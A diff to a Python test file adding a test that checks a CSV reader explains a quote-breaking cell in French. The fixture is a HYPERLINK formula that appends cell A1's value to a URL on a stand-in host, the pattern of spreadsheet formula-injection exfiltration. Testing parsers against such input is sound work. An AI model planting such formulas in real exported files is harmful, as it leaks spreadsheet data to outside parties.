@@ -106,6 +106,15 @@ def test_error_names_the_file() -> None:
     assert err.value.fichier == "mon fichier.csv"
 
 
+def test_a_formula_breaking_the_quotes_is_explained_in_french() -> None:
+    """A cell `=HYPERLINK("…"&A1;"clic")` exported as a formula: the message names the line
+    and says what to do, in French (Python's csv said "';' expected after '\"'")."""
+    contenu = 'periode;nb;lien\n2024;3;=HYPERLINK("http://x.example/?x="&A1;"clic")\n'
+    with pytest.raises(PartnerFileError, match=r"^f\.csv : ligne 2 : un guillemet") as err:
+        sniff_table(contenu.encode(), "f.csv", ["periode"], {"separateur": ";"})
+    assert "expected" not in str(err.value) and "tableur" in str(err.value)
+
+
 def test_a_stray_nul_stays_in_its_cell_a_binary_file_is_refused() -> None:
     """One NUL byte is damage in one row (the reading rejects that row), not a binary file."""
     table = sniff_table(b"periode;nb\n2024;3\n2025;\x004\n", "f.csv", ["periode"])
